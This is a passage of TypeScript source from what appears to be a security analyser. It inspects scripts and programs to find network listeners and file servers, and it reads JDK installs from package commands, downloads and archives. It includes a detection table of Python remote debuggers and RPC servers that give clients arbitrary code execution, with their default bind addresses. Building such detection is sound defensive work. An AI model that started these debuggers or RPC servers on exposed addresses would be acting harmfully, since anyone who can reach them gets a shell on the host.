                if (!/^\s*\d+\s*$/.test(dest ?? "")) write(dest, "pino.destination");
            }
        }
        // node:cluster by NODE_CLUSTER_OK: workers run this same program, unless told another or given an environment.
        const clusterModule = /^(?:node:)?cluster$/;
        for (const name of bound(clusterModule))
            for (const m of file.text.matchAll(
                new RegExp(`(?<![\\w$.'"/:])${name}(?![\\w$'"])(?:\\s*\\.\\s*([\\w$]+)(\\s*\\(\\s*\\))?)?`, "g"),
            )) {
                const declared = /(?:const|let|var|import|\*\s*as)\s*$/.test(file.text.slice(0, m.index ?? 0));
                if (!declared && !NODE_CLUSTER_OK.test(m[1] ?? "") && !(m[1] === "fork" && m[2] !== undefined))
                    opaque.add(`cluster${m[1] === undefined ? "" : `.${m[1]}`}, a worker the pack does not read`);
            }
        for (const m of members.filter(m => clusterModule.test(m.module)))
            if (
                m.member === "fork"
                    ? [...file.text.matchAll(new RegExp(`(?<![\\w$.])${escape(m.local)}\\s*\\((?!\\s*\\))`, "g"))]
                          .length > 0
                    : !NODE_CLUSTER_OK.test(m.member)
            )
                opaque.add(`cluster.${m.member}, a worker the pack does not read`);
        const clusterRequire = String.raw`require\s*\(\s*['"](?:node:)?cluster['"]\s*\)`;
        if (
            [...file.text.matchAll(new RegExp(clusterRequire, "g"))].length >
            [
                ...file.text.matchAll(
                    new RegExp(String.raw`(?:const|let|var)\s*(?:[\w$]+|\{[^}]*\})\s*=\s*${clusterRequire}`, "g"),
                ),
            ].length
        )
            opaque.add("cluster, a worker the pack does not read");
        // @fastify/static's `{ root: DIR }`, serve-handler's `{ public: DIR }`, the key quoted or computed (`'root':`,
        // `['root']:`) or shorthand (`{ root }` is `{ root: root }`, ECMAScript "Object Initializer"): the name's value.
        if (/@fastify\/static|fastify-static|serve-handler/.test(all))
            for (const m of file.text.matchAll(
                /(?<![\w$])(?:\[\s*)?(['"`]?)(root|public)\1(?:\s*\])?\s*:\s*|(?<=[{,]\s*)(root|public)(?=\s*[,}])/g,
            ))
                serve(
                    path(m[3] ?? jsExpressionAt(file.text, (m.index ?? 0) + m[0].length)),
                    (m[2] ?? m[3]) === "root" ? "@fastify/static" : "serve-handler",
                );
    }
    // `net` used as a client only is no listener (Node.js "net": net.connect()/net.createConnection() "A factory
    // function, which creates a new net.Socket, immediately initiates connection"; socket.connect(port[, host]), host
    // "Default: 'localhost'", or a unix socket's path): read so when it starts no server (createServer, Server,
    // listen) and every connection it opens is to the node's loopback or a unix socket. Any other use (a server, a
    // connection to another host, which may relay) is NODE_OPAQUE_MODULES' `net`.
    if (netLoaded) {
        const clientOnly = files.every(
            file =>
                !/(?<![\w$])(createServer|Server|listen)\b/.test(file.code) &&
                [...file.text.matchAll(/(?<![\w$])(connect|createConnection)\s*\(/g)].every(m => {
                    const given = jsCall(file.text, (m.index ?? 0) + m[0].length - 1)?.args ?? [];
                    const object = /^\{[\s\S]*\}$/.test(given[0] ?? "") ? given[0] : undefined;
                    const socket = object ? jsProperty(object, "path") : given[0];
                    const path = socket === undefined ? undefined : jsPath(socket, file.text, file.dir, cwd);
                    if (path?.startsWith("/")) return true;
                    const host = object ? jsProperty(object, "host") : given[1];
                    if (host === undefined || /^\s*(\(|function\b|async\b)/.test(host)) return true;
                    const value = jsPath(host, file.text, file.dir, cwd);
                    return value !== undefined && loopbackOnly([value]);
                }),
        );
        if (!clientOnly) opaque.add("net");
    }
    const listens = files.flatMap(file =>
        [...file.text.matchAll(/\.listen\s*\(/g)].map(m => {
            const given = jsCall(file.text, (m.index ?? 0) + m[0].length - 1)?.args ?? [];
            const object = /^\{[\s\S]*\}$/.test(given[0] ?? "") ? given[0] : undefined;
            // A unix socket's path (`listen('/run/app.sock')`, `listen({path})`) is the node's own.
            const socket = object ? jsProperty(object, "path") : given[0];
            const path = socket === undefined ? undefined : jsPath(socket, file.text, file.dir, cwd);
            if (path?.startsWith("/")) return path;
            const host = object ? jsProperty(object, "host") : given[1];
            const value = host === undefined ? undefined : jsPath(host, file.text, file.dir, cwd);
            return value === "" ? undefined : value;
        }),
    );
    // A package the pack does not read may start a server of its own (hapi's server.start(), node-static's Server).
    const starts = files.some(f => /\.\s*(serve|start|open|server)\s*\(|\bnew\s+[\w$.]*Server\s*\(/.test(f.code))
        ? [undefined]
        : [];
    const creates = files.some(f => /(?<![\w$])(createServer|createSecureServer)\s*\(/.test(f.code));
    const mayListen = listens.length > 0 || opaque.size > 0 || [...packages].some(p => !NODE_LOCAL_MODULES.test(p));
    if (!mayListen || (served.length === 0 && opaque.size === 0 && unknown.size === 0)) return [];
    // Code it cannot follow may open a socket of its own anywhere (a child, an unread module, a dgram socket); a relay
    // module's server is one of its `.listen` calls.
    const anywhere = [...opaque].some(
        o => !/^(?:node:)?(net|tls|http-proxy|http-proxy-middleware|express-http-proxy)$/.test(o),
    );
    const every = [...listens, ...(unknown.size > 0 ? starts : [])];
    const binds =
        anywhere || every.length === 0 || every.some(l => l === undefined) ? [] : [...new Set(every as string[])];
    const where = `${program} ${entry.label}`;
    if (opaque.size > 0) return [{ server: where, binds, serves: { unread: `${where} (${[...opaque].join(", ")})` } }];
    // Beyond loopback: a `.listen` not bound to a loopback literal, or a server another API starts.
    if (unknown.size > 0 && (listens.length > 0 || starts.length > 0 || creates) && !loopbackOnly(binds))
        return [
            {
                server: where,
                binds,
                serves: {
                    unread: `${where}, a program the pack cannot read that serves beyond loopback (${[...unknown].join(", ")})`,
                },
            },
        ];
    return [...new Set(served.map(s => s.dir))].map(dir => ({
        server: `${where}: ${[...new Set(served.filter(s => s.dir === dir).map(s => s.api))].join(", ")} serving files`,
        binds,
        serves: { files: dir },
    }));
}

/**
 * Remote debuggers a Python program starts from its own code, each a served shell (a debugger's console or a DAP
 * client's `evaluate` runs any Python), with the argument naming where it listens and where it listens without one:
 * - debugpy `listen(address)` (microsoft/debugpy README: `debugpy.listen(5678)`, `("0.0.0.0", 5678)` "to allow other
 *   computers to attach"; a port alone is 127.0.0.1);
 * - ptvsd `enable_attach(address=(DEFAULT_HOST, DEFAULT_PORT))` (ptvsd/attach_server.py: DEFAULT_HOST = '0.0.0.0');
 * - remote-pdb `RemotePdb(host, port)`, `set_trace(host=None, ...)` (ionelmc/python-remote-pdb README; host None is
 *   REMOTE_PDB_HOST, read with the environment, else 127.0.0.1);
 * - web-pdb `WebPdb(host='', port=5555)`, `set_trace(host='', ...)`, `catch_post_mortem(host='', ...)`,
 *   `post_mortem(tb=None, host='', ...)` (romanvm/python-web-pdb: "host: web-UI hostname or IP-address"; '' every
 *   address);
 * - rpdb `Rpdb(addr="127.0.0.1", port=4444)`, `set_trace(addr=...)` (tamentis/rpdb);
 * and the remote-execution servers a script starts the same way: RPyC's `Server(service, hostname="", ...)` and its
 * ThreadedServer, ForkingServer, OneShotServer, ThreadPoolServer, GeventServer (rpyc/utils/server.py: "hostname: the
 * host to bind to. Default is IPADDR_ANY"), whose classic SlaveService/ClassicService lets the client run any Python
 * (RPyC docs, "Classic"), any other service exposing what the pack cannot read: a served shell either way; round 67:
 * XML-RPC servers (Python docs "xmlrpc.server": SimpleXMLRPCServer(addr, ...), its functions and instances called by
 * any client; register_instance "allow_dotted_names ... may allow intruders to execute arbitrary code"; what it exposes
 * is code the pack does not judge), multiprocessing's managers and connection Listener (Python docs "multiprocessing":
 * "address is the address on which the manager process listens", None an arbitrary one on localhost; a Listener's
 * connections unpickle what they receive, "can be used to execute arbitrary code"), Pyro's Daemon (host None:
 * localhost by Pyro's HOST setting).
 */
const PYTHON_DEBUGGERS: { callee: RegExp; argument: [string, number]; otherwise: string }[] = [
    { callee: /^debugpy\.listen$/, argument: ["address", 0], otherwise: "127.0.0.1" },
    { callee: /^ptvsd\.enable_attach$/, argument: ["address", 0], otherwise: "0.0.0.0" },
    { callee: /^remote_pdb\.(RemotePdb|set_trace)$/, argument: ["host", 0], otherwise: "127.0.0.1" },
    { callee: /^web_pdb\.(WebPdb|set_trace|catch_post_mortem)$/, argument: ["host", 0], otherwise: "0.0.0.0" },
    { callee: /^web_pdb\.post_mortem$/, argument: ["host", 1], otherwise: "0.0.0.0" },
    { callee: /^rpdb\.(Rpdb|set_trace|post_mortem)$/, argument: ["addr", 0], otherwise: "127.0.0.1" },
    {
        callee: /^rpyc\.(utils\.(server|gevent_server)\.)?(Server|ThreadedServer|ForkingServer|OneShotServer|ThreadPoolServer|GeventServer)$/,
        argument: ["hostname", 1],
        otherwise: "0.0.0.0",
    },
    {
        callee: /^(xmlrpc\.server|SimpleXMLRPCServer|DocXMLRPCServer)\.(Simple|Doc|MultiPath)XMLRPCServer$/,
        argument: ["addr", 0],
        otherwise: "0.0.0.0",
    },
    {
        callee: /^multiprocessing\.(managers\.(Base|Sync|SharedMemory)Manager|connection\.Listener)$/,
        argument: ["address", 0],
        otherwise: "127.0.0.1",
    },
    { callee: /^Pyro[45]\.((api|server|core)\.)?Daemon$/, argument: ["host", 0], otherwise: "127.0.0.1" },
];

/**
 * The remote debuggers (PYTHON_DEBUGGERS) a Python program run as root starts in its own code, read as
 * pythonFileServerListeners reads its program (pythonProgram, names through imports: pythonResolve): on the host its
 * argument names (a string, or a `(HOST, PORT)` tuple's; '' every address; a port alone or None the debugger's
 * default), every address when it is no literal nor a name assigned one (pythonValue: fail closed). The command-line
 * forms (`python -m debugpy --listen`, PYTHONBREAKPOINT) are judged with the command and its environment.
 */
function pythonDebuggerListeners(
    args: readonly string[],
    cwd: string | undefined,
    _: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): Listener[] {
    const program = readablePythonProgram(args, cwd, fileText, view);
    if (program === undefined) return [];
    const { where, roots, files } = program;
    return files.flatMap(file =>
        pythonCalls(file.text).flatMap(({ callee, call }): Listener[] =>
            PYTHON_DEBUGGERS.filter(d => d.callee.test(callee)).map(debugger_ => {
                const host = (expr: string | undefined): string | undefined => {
                    if (expr === undefined) return debugger_.otherwise;
                    const found = pythonValue(expr, file, roots, fileText, view);
                    const text = found?.text.trim();
                    if (found === undefined || text === undefined) return undefined;
                    if (/^(None|\d+)$/.test(text)) return debugger_.otherwise;
                    const tuple = /^\(([\s\S]*)\)$/.exec(text);
                    const first = tuple ? pythonCallArguments(tuple[1]).positional[0] : undefined;
                    const value = first === undefined ? found : pythonValue(first, found.file, roots, fileText, view);
                    const literal = pythonString(value?.text);
                    return literal === undefined ? undefined : literal === "" ? "0.0.0.0" : literal;
                };
                const bind = host(pythonCallArguments(call).argument(...debugger_.argument));
                return {
                    server: `python ${where}: ${callee} (a remote debugger or RPC server: its client runs any Python)`,
                    binds: bind === undefined ? [] : [bind === "localhost" ? "127.0.0.1" : bind],
                    serves: { shell: "sh" },
                };
            }),
        ),
    );
}

/** java(1) launcher options that take the next word as their value (before the main class or `-jar FILE`). */
const JAVA_VALUE_OPTION =
    /^(-cp|-classpath|--class-path|-p|--module-path|--upgrade-module-path|--add-modules|--add-opens|--add-exports|--add-reads|--patch-module|--limit-modules|--enable-native-access)$/;

/** Where java's own options end: the main class or `-jar FILE` (java(1): later words are the application's). */
const javaOptionsEnd = (args: readonly string[]) =>
    args.findIndex((w, i) => w === "-jar" || (!w.startsWith("-") && !JAVA_VALUE_OPTION.test(args[i - 1] ?? "")));

/**
 * `words` with each options file a word names replaced by the file's words (`file(word, before)`: its path, or none),
 * from the text user data wrote (quotedWords; `comments`: `#` starts one), until `stop(words so far)`; `unread` the
 * files it does not write in full or changes after writing them (readConfig), which may hold any option. Files are not
 * nested: their words are not expanded again.
 */
function expandOptionFiles(
    words: readonly string[],
    file: (word: string, before: readonly string[]) => string | undefined,
    comments: boolean,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    stop: (before: readonly string[]) => boolean = () => false,
): { words: string[]; unread: string[] } {
    const out: string[] = [];
    const unread: string[] = [];
    for (const w of words) {
        if (stop(out)) break;
        const path = file(w, out);
        if (path === undefined) {
            out.push(w);
            continue;
        }
        const text = readConfig(path, fileText, view);
        if (text == null) unread.push(path);
        out.push(...quotedWords(comments ? (text ?? "").replace(/(^|\s)#.*$/gm, "$1") : (text ?? "")));
    }
    return { words: out, unread };
}

/**
 * The java launcher's `@FILE` argument files (java(1) "java Command-Line Argument Files": the launcher replaces `@FILE`
 * by the file's arguments, split at white space outside quotes, `#` starting a comment, until the main class or
 * `--disable-@files`; `@@` escapes a literal `@`), on its command line and in JDK_JAVA_OPTIONS (JDK-8170832: "It will
 * support multiple @files"), then the VM's `-XX:VMOptionsFile=FILE` (java(1) "Advanced Runtime Options": "Allows user
 * to specify VM options in a file"; HotSpot arguments.cpp expand_vm_options_as_needed, for the command line,
 * JAVA_TOOL_OPTIONS and _JAVA_OPTIONS alike, the file's words split as those variables' are, no comments).
 */
function jvmOptionFiles(
    words: readonly string[],
    launcher: boolean,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): { words: string[]; unread: string[] } {
    const launched = launcher
        ? expandOptionFiles(words, javaArgumentFile, true, fileText, view)
        : { words: [...words], unread: [] };
    const vmOptionsFile = (w: string) => /^-XX:VMOptionsFile=(.+)$/.exec(w)?.[1];
    const vm = expandOptionFiles(launched.words, vmOptionsFile, false, fileText, view);
    return { words: vm.words, unread: [...launched.unread, ...vm.unread] };
}

/** The path of a java launcher's `@FILE` word (jvmOptionFiles), unless `--disable-@files` came before it. */
const javaArgumentFile = (w: string, before: readonly string[]) =>
    /^@[^@]/.test(w) && !before.includes("--disable-@files") ? w.slice(1) : undefined;

/** java's options (before the main class or `-jar FILE`) with its option files expanded (jvmOptionFiles). */
function javaOptions(
    args: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): { options: string[]; unread: string[] } {
    const stop = (before: readonly string[]) => javaOptionsEnd(before) >= 0;
    const launched = expandOptionFiles(args, javaArgumentFile, true, fileText, view, stop);
    const end = javaOptionsEnd(launched.words);
    const vm = jvmOptionFiles(launched.words.slice(0, end < 0 ? undefined : end), false, fileText, view);
    return { options: vm.words, unread: [...launched.unread, ...vm.unread] };
}

/**
 * The properties of a Java properties file (java.util.Properties.load: `key=value`, `key:value` or `key value`, `#`
 * and `!` lines comments; the value keeps its trailing white space, which makes `true ` another word than `true`).
 */
const javaProperties = (text: string) =>
    text.split(/\r?\n/).flatMap(line => {
        const m = /^\s*([^#!\s=:][^\s=:]*)\s*[=:\s]\s*(.*)$/.exec(line);
        return m ? [{ name: m[1], value: m[2] }] : [];
    });

/** JMX's Boolean settings (openjdk ConnectorBootstrap.java: `Boolean.valueOf(useAuthenticationStr)`): true only for "true" ignoring case. */
const jmxTrue = (value: string) => value.toLowerCase() === "true";

/**
 * The JDWP agent's option string of a JVM option loading it, recognised by the library's name (java(1): `-agentlib:jdwp=`
 * loads libjdwp by name, "-agentpath:pathname[=options] Loads the native agent library specified by the absolute path
 * name", the legacy `-Xrunjdwp:`; Eclipse OpenJ9 "-Xrunjdwp" lists `-agentpath:/path/to/libjdwp.so` beside them).
 */
const jdwpSettings = (option: string) =>
    /^(?:-agentlib:jdwp=|-Xrunjdwp:|-agentpath:(?:[^=]*\/)?(?:lib)?jdwp\.(?:so|dll|dylib)=)(.*)$/.exec(option)?.[1];

/**
 * The Java feature release a JDK's name says: a package (`java-1.8.0-amazon-corretto-devel`, `java-17-amazon-corretto`,
 * `openjdk-8-jre-headless`, `temurin-21-jdk`, `zulu17-ca-jdk`, amazon-linux-extras' `java-openjdk11`) or an installation
 * directory (`/usr/lib/jvm/java-17-amazon-corretto`, `/opt/jdk-21.0.2`, `jdk1.8.0_202`, `amazon-corretto-17.0.9...`);
 * `1.N` is release N (JDK 8 and earlier). Undefined when the name says none (`default-jdk`, `java-latest-openjdk`).
 */
const JAVA_RELEASE = /(?:^|[/-])(?:java|jdk|jre|openjdk|corretto|temurin|zulu)-?(?:1\.)?(\d+)(?!\d)/i;
const javaReleaseOf = (name: string) => {
    const m = JAVA_RELEASE.exec(name);
    return m ? Number(m[1]) : undefined;
};

/**
 * A word naming a JDK package on an install command line (installedJavaReleases); Debian's java-common and the like
 * are no JVM (Debian Java Policy, ch. 2: "Java virtual machines must depend on java-common").
 */
const JDK_PACKAGE_STARTS = [
    "java-",
    "openjdk",
    "jdk",
    "jre",
    "temurin",
    "zulu",
    "amazon-corretto",
    "corretto",
    "msopenjdk",
    "default-jdk",
    "default-jre",
    "java\\d",
];
const JDK_PACKAGE = new RegExp(
    `^(?!java-(common|wrappers|package|atk-wrapper)$)(${JDK_PACKAGE_STARTS.join("|")})`,
    "i",
);

/**
 * A package file an install command names (`rpm -U FILE`, `dpkg -i FILE`, `dnf install ./FILE.rpm`, `apt install
 * ./FILE.deb`): a path, a URL or a package file's name. rpm(8) "rpm {-U|--upgrade} [install-options] PACKAGE_FILE"
 * and dpkg(1) "-i, --install package-file" install what the file's header says, whatever the file is named.
 */
const PACKAGE_FILE = /^(\.{0,2}\/|~|[a-z][\w+.-]*:\/\/)|\.(rpm|deb|apk)$/i;

/**
 * The release a downloaded or named JDK file says (installedJavaReleases, placedJavaReleases): its name (a URL's last
 * path segment, percent-decoded) names a JDK (`JDK_PATH`) and a release, which every other segment of its path naming
 * one agrees with (adoptium's `temurin17-binaries/releases/download/jdk-17.0.12%2B7/OpenJDK17U-jre_...tar.gz`, Corretto's
 * `downloads/latest/amazon-corretto-8-x64-linux-jdk.rpm`); undefined otherwise (a name that says none: `java.rpm`,
 * `openjdk.tar.gz`, an API redirect).
 */
function javaFileRelease(source: string): number | undefined {
    const path = source.replace(/^[a-z][\w+.-]*:\/\/[^/]*/i, "").replace(/[?#].*$/, "");
    let decoded = path;
    try {
        decoded = decodeURIComponent(path);
    } catch {
        // kept as written
    }
    const segments = decoded.split("/").filter(x => x !== "");
    // The Adoptium API's download redirects (api.adoptium.net, api-v3 BinaryResource: GET
    // `/v3/binary/latest/{feature_version}/{release_type}/{os}/{arch}/{image_type}/...` and
    // `/v3/binary/version/{release_name}/{os}/{arch}/{image_type}/...`, "Redirects to the binary that matches your
    // current query"; feature_version "Feature release version you want to download", a release name `jdk-17.0.12+7`):
    // a JDK or JRE image (image_type) of the release its path names; any other of its URLs says none.
    if (/^(?:https?:\/\/)?api\.(?:adoptium|adoptopenjdk)\.net\//i.test(source)) {
        const [v3, binary, kind, named, ...rest] = segments;
        const image = rest[kind === "latest" ? 3 : 2];
        if (v3 !== "v3" || binary !== "binary" || !/^(jdk|jre)$/.test(image ?? "")) return undefined;
        if (kind === "latest") return /^\d+$/.test(named ?? "") ? Number(named) : undefined;
        return kind === "version" ? javaReleaseOf(named ?? "") : undefined;
    }
    const name = segments.at(-1) ?? "";
    const release = JDK_PATH.test(name) ? javaReleaseOf(name) : undefined;
    const others = segments.flatMap(x => javaReleaseOf(x) ?? []);
    return release !== undefined && others.every(r => r === release) ? release : undefined;
}

/**
 * The assignments of a script text, every value each name is given (`NAME=VALUE`, `export`/`readonly`/`local`/
 * `declare` ones; quotes removed), for the words of installedJavaReleases (bash(1) "Parameter Expansion").
 */
function scriptAssignments(text: string): Map<string, string[]> {
    const out = new Map<string, string[]>();
    for (const m of text.matchAll(
        /(?:^|[\s;&|(`])(?:(?:export|readonly|local|declare|typeset)(?:\s+-\w+)*\s+)?([A-Za-z_]\w*)=("[^"\n]*"|'[^'\n]*'|[^\s;&|()"'`]*)/gm,
    ))
        out.set(m[1], [...(out.get(m[1]) ?? []), m[2].replace(/^(["'])(.*)\1$/s, "$2")]);
    return out;
}

/**
 * A word with the variables the script assigns expanded (scriptAssignments: each value it may hold, a few levels deep);
 * one it does not assign, or any other expansion (`${X:-d}`, `$(...)`), stays: a word holding `$` or a backquote is
 * unknown to its readers. An expanded word is split into fields at blanks (bash(1) "Word Splitting": "The shell scans
 * the results of parameter expansion ... that did not occur within double quotes for word splitting"): words are read
 * after quote removal, so a quoted `"$PKGS"` is split too, its readers taking each field (more names: fail-closed).
 */
function expandedWords(word: string, variables: ReadonlyMap<string, string[]>, depth = 0): string[] {
    const m = /\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))/.exec(word);
    const values = m ? variables.get(m[1] ?? m[2]) : undefined;
    if (m === null || values === undefined || depth > 4)
        return depth === 0 ? [word] : word.split(/[ \t\n]+/).filter(w => w !== "");
    return [
        ...new Set(
            values
                .slice(0, 8)
                .flatMap(v =>
                    expandedWords(word.slice(0, m.index) + v + word.slice(m.index + m[0].length), variables, depth + 1),
                ),
        ),
    ];
}

/**
 * The URLs curl or wget saved into a file, by the file's name (curl(1) `-o, --output <file>`, `-O, --remote-name`
 * "the local file is named like the remote file"; wget(1) `-O file, --output-document=file`, else the URL's name):
 * what a package file or archive holds is what was downloaded into it (installedJavaReleases, placedJavaReleases).
 */
function downloadedInto(text: string, variables: ReadonlyMap<string, string[]>): Map<string, string[]> {
    const out = new Map<string, string[]>();
    for (const line of joinContinuations(text).split(/\r?\n/))
        for (const c of simpleCommands(line)) {
            const at = c.words.findIndex(w => /^(curl|wget)$/.test(posix.basename(w)));
            if (at < 0) continue;
            const wget = posix.basename(c.words[at]) === "wget";
            const words = c.words.slice(at + 1).flatMap(w => expandedWords(w, variables));
            const urls = words.filter(w => /^(https?|ftp):\/\//i.test(w));
            const named: string[] = [];
            words.forEach((w, i) => {
                const option = wget
                    ? /^(?:-O|--output-document=)(.*)$/.exec(w)
                    : (/^(?:--output=|-[A-Za-z]*o)(.*)$/.exec(w) ?? (w === "--output" ? [w, ""] : null));
                if (option) named.push(option[1] !== "" ? option[1] : (words[i + 1] ?? ""));
            });
            for (const url of urls) {
                const name =
                    url
                        .replace(/[?#].*$/, "")
                        .split("/")
                        .at(-1) ?? "";
                for (const file of named.length > 0 ? named : [name])
                    out.set(posix.basename(file), [...(out.get(posix.basename(file)) ?? []), url]);
            }
        }
    return out;
}

/**
 * The release of each JDK one word of an install command names (installedJavaReleases): undefined when the pack cannot
 * tell. Words are read after quote removal and with the script's variables expanded (bash(1) "Quote Removal",
 * "Parameter Expansion"); a word still holding an expansion may name any package. A package file (PACKAGE_FILE) is
 * read by what was downloaded into it, else its name (javaFileRelease): one whose name says no JDK release may be any
 * (a Corretto 8 RPM saved as `/tmp/java.rpm`). A glob (dnf/yum package specs take them, quoted from the shell) that may
 * match a JDK package is one: the release its literal start says, when the glob cannot reach its digits.
 */
function packageWordReleases(word: string, downloads: ReadonlyMap<string, string[]>): (number | undefined)[] {
    if (word.startsWith("-") || word === "") return [];
    if (/[$`]/.test(word)) return [undefined];
    if (PACKAGE_FILE.test(word)) {
        const sources = downloads.get(posix.basename(word.replace(/[?#].*$/, ""))) ?? [word];
        return sources.map(javaFileRelease);
    }
    const glob = word.search(/[*?[{]/);
    if (glob >= 0) {
        const literal = word.slice(0, glob);
        const mayBeJdk =
            JDK_PACKAGE.test(word) ||
            JDK_PACKAGE_STARTS.some(start => start.replace("\\d", "0").startsWith(literal.toLowerCase()));
        if (!mayBeJdk) return [];
        const m = JAVA_RELEASE.exec(literal);
        return [m && m.index + m[0].length < literal.length ? Number(m[1]) : undefined];
    }
    return JDK_PACKAGE.test(word) ? [javaReleaseOf(word)] : [];
}

/**
 * The release of each JDK package user data installs (`dnf|yum|microdnf|apt-get|apt|zypper|apk|amazon-linux-extras
 * ... install ... PACKAGE`, `rpm -i|-U FILE`, `dpkg -i|--install|--unpack FILE`, `gdebi FILE`, and cloud-config's
 * `packages:` list, block or flow, an entry a name or `[name, version]`: cloud-init module reference, "Package Update
 * Upgrade Install"), each word read by packageWordReleases, undefined for one whose release the pack cannot tell
 * (javaReleaseOf) and for an installer run by xargs: ScriptView javaReleases.
 */
const installedJavaReleases = (texts: readonly string[]) =>
    texts.flatMap(text => {
        const variables = scriptAssignments(text);
        const downloads = downloadedInto(text, variables);
        return [
            // A backslash-newline joins lines (bash(1) QUOTING: "a \newline pair ... is treated as a line
            // continuation").
            ...[
                ...joinContinuations(text).matchAll(
                    /\b(?:dnf|yum|microdnf|apt-get|apt|zypper|apk|amazon-linux-extras)\b[^\n;&|]*?\b(?:install|add|localinstall|reinstall)\b([^\n;&|]*)|\brpm\b([^\n;&|]*?\s-(?:-install|-upgrade|-reinstall|[A-Za-z]*[iU][A-Za-z]*)\b[^\n;&|]*)|\bdpkg(?![\w-])([^\n;&|]*?\s-(?:-install|-unpack|[A-Za-z]*i[A-Za-z]*)\b[^\n;&|]*)|\bgdebi\b([^\n;&|]*)/g,
                ),
            ].flatMap(m =>
                (simpleCommands(m[1] ?? m[2] ?? m[3] ?? m[4] ?? "")[0]?.words ?? [])
                    // A cloud-config flow list's items (`[dnf, install, -y, java-17-amazon-corretto]`).
                    .map(w => w.replace(/,$/, "").replace(/^([^[]*)\]$/, "$1"))
                    .flatMap(w => expandedWords(w, variables))
                    .flatMap(w => packageWordReleases(w, downloads)),
            ),
            ...cloudConfigPackages(text)
                .filter(w => JDK_PACKAGE.test(w))
                .map(javaReleaseOf),
            // An installer xargs runs takes the words of its input as operands (xargs(1): "build and execute command
            // lines from standard input", `-a FILE` "Read items from file instead of standard input"): packages the
            // pack does not read, any JDK.
            ...[
                ...joinContinuations(text).matchAll(
                    /\bxargs\b[^\n;&|]*?\s(?:\S*\/)?(?:dnf|yum|microdnf|apt-get|apt|zypper|apk|amazon-linux-extras|rpm|dpkg|gdebi)\s/g,
                ),
            ].map(() => undefined),
            ...placedJavaReleases(text, downloads),
        ];
    });

/** A path naming a JDK's directory or one of its parts (`/opt/java/openjdk`, `/usr/lib/jvm/...`, `$JAVA_HOME/bin`). */
const JDK_PATH = /(java|jdk|jre|jvm|corretto|temurin|zulu|semeru|openj9|graalvm|liberica|dragonwell)/i;

/**
 * The release of each JDK user data puts on the node other than by a package (installedJavaReleases), undefined for
 * one whose names say none (javaReleaseOf): any of them may be the `java` a command finds on PATH. Temurin's own images
 * unpack its tarball to /opt/java/openjdk and put it first on PATH (adoptium/containers Dockerfiles), and systemd's
 * default PATH puts /usr/local/bin before /usr/bin (systemd.exec(5), "Environment Variables in Spawned Processes"):
 * - an archive unpacked (`tar ... -C|--directory DIR`, `unzip ... -d DIR`) into a JDK's directory, or of a JDK's archive
 *   (the directory's release, else the archive's);
 * - a link to or from a JDK's `java` or directory (`ln -s TARGET LINK`, TARGET's JDK);
 * - alternatives(8)/update-alternatives(1) `--install LINK NAME PATH PRIORITY` or `--set NAME PATH` of a `java`, and
 *   update-java-alternatives(8) `-s|--set NAME`;
 * - a JAVA_HOME assignment, and a PATH assignment entry naming a JDK's directory (`$JAVA_HOME/bin` is JAVA_HOME's).
 */
function placedJavaReleases(text: string, downloads: ReadonlyMap<string, string[]>): (number | undefined)[] {
    const out: (number | undefined)[] = [];
    const release = (path: string) => (/[$`]/.test(path) ? undefined : javaReleaseOf(path));
    // An archive's release: the directory's, else what was downloaded into the archive (downloadedInto: the URL's,
    // javaFileRelease), else the archive's own name.
    const archived = (dir: string | undefined, archive: string | undefined): (number | undefined)[] => {
        const named = dir === undefined ? undefined : release(dir);
        if (named !== undefined) return [named];
        const urls = archive === undefined ? undefined : downloads.get(posix.basename(archive));
        return urls !== undefined ? urls.map(javaFileRelease) : [release(posix.basename(archive ?? ""))];
    };
    // What each directory had unpacked into it (`tar --directory /opt/java/openjdk`, adoptium/containers' Dockerfiles):
    // a path naming that directory and no release (`PATH=/opt/java/openjdk/bin:$PATH`) is those JDKs.
    const unpacked = new Map<string, (number | undefined)[]>();
    const unpack = (dir: string | undefined, archive: string | undefined) => {
        const releases = archived(dir, archive);
        if (dir !== undefined && !/[$`]/.test(dir))
            unpacked.set(posix.normalize(dir), [...(unpacked.get(posix.normalize(dir)) ?? []), ...releases]);
        out.push(...releases);
    };
    const placed = (path: string): (number | undefined)[] => {
        const named = release(path);
        if (named !== undefined || /[$`]/.test(path)) return [named];
        return unpacked.get(posix.normalize(path)) ?? [undefined];
    };
    const segments = (command: RegExp) =>
        [...text.matchAll(new RegExp(`(?:^|[\\s;&|(\`/])${command.source}(?=\\s)([^\\n;&|]*)`, "g"))].map(m =>
            m[1]
                .split(/\s+/)
                .filter(w => w !== "")
                .map(w => w.replace(/^(["'])(.*)\1$/, "$2")),
        );
    for (const words of segments(/(?:tar|gtar|bsdtar)/)) {
        const c = words.findIndex(w => /^(-C|--directory)$/.test(w) || /^-[a-zA-Z]*C$/.test(w));
        const dir = c >= 0 ? words[c + 1] : words.find(w => w.startsWith("--directory="))?.slice(12);
        const archive = words.find(w => /\.(tar(\.\w+)?|tgz|txz|tbz2?)$/.test(w));
        if (
            (dir !== undefined && JDK_PATH.test(dir)) ||
            (archive !== undefined && JDK_PATH.test(posix.basename(archive)))
        )
            unpack(dir, archive);
    }
    for (const words of segments(/unzip/)) {
        const d = words.indexOf("-d");
        const dir = d >= 0 ? words[d + 1] : undefined;
        const archive = words.find(w => /\.zip$/i.test(w));
        if (
            (dir !== undefined && JDK_PATH.test(dir)) ||
            (archive !== undefined && JDK_PATH.test(posix.basename(archive)))
        )
            unpack(dir, archive);
    }
    for (const words of segments(/ln/)) {
        const operands = words.filter(w => !w.startsWith("-"));
        const target = operands[0];
        const link = operands.at(-1) ?? "";
        if (target !== undefined && [target, link].some(p => posix.basename(p) === "java" || JDK_PATH.test(p)))
            out.push(...placed(posix.basename(target) === "java" ? posix.dirname(target) : target));
    }
    for (const words of segments(/(?:update-)?alternatives/)) {
        const i = words.findIndex(w => w === "--install");
        const s = words.findIndex(w => w === "--set");
        const path =
            i >= 0 && words[i + 2] === "java"
                ? words[i + 3]
                : s >= 0 && words[s + 1] === "java"
                  ? words[s + 2]
                  : undefined;
        if (path !== undefined) out.push(...placed(posix.dirname(path)));
    }
    for (const words of segments(/update-java-alternatives/)) {
        const s = words.findIndex(w => w === "-s" || w === "--set");
        if (s >= 0) out.push(release(words[s + 1] ?? ""));
    }
